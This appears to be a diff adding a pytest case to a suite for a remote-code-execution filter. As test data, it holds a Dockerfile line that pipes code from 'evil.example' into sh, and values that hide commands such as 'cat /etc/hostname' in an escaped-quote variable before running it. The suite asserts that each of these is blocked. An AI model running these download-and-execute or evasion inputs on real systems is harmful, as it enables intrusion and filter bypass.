@@ -1035,3 +1035,10 @@ def test_a_dockerfile_run_line_passes(edge, value):
                                    "FROM alpine\nRUN apk add curl && curl http://evil.example/x | sh"])
 def test_a_run_line_that_chains_or_pipes_still_refused(rce_edge, value):
     assert_blocked_by_rce(rce_edge, value)
+
+
+@pytest.mark.parametrize("value", ["X=$\\'uname -a\\'\n$X", "run=$\\'cat /etc/hostname\\'\n${run}"])
+def test_a_variable_given_a_command_in_escaped_quotes_then_run(rce_edge, value):
+    """"X=$\\'uname -a\\'" then "$X" on the next line: the quotes escaped
+    for a layer of unescaping before the shell are the same assignment."""
+    assert_blocked_by_rce(rce_edge, value)
